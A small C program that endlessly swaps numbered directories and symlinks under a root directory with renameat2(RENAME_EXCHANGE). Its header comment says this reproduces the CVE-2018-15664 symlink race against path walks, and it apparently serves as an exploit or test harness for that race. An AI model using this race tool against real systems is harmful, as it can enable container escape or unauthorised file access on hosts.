/* Swaps ROOT/dN and ROOT/xN (a directory and a symlink) for N in 0..COUNT atomically with
 * renameat2(RENAME_EXCHANGE), as fast as it can, forever: the CVE-2018-15664 race against a
 * walk that follows names. Usage: swap_dir_link ROOT COUNT */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: swap_dir_link ROOT COUNT\n");
        return 2;
    }
    int count = atoi(argv[2]);
    int root = open(argv[1], O_RDONLY | O_DIRECTORY);
    if (root < 0) {
        perror(argv[1]);
        return 1;
    }
    char d[32], x[32];
    for (;;) {
        for (int i = 0; i < count; i++) {
            snprintf(d, sizeof d, "d%d", i);
            snprintf(x, sizeof x, "x%d", i);
            if (syscall(SYS_renameat2, root, d, root, x, RENAME_EXCHANGE) != 0) {
                perror("renameat2");
                return 1;
            }
        }
    }
}
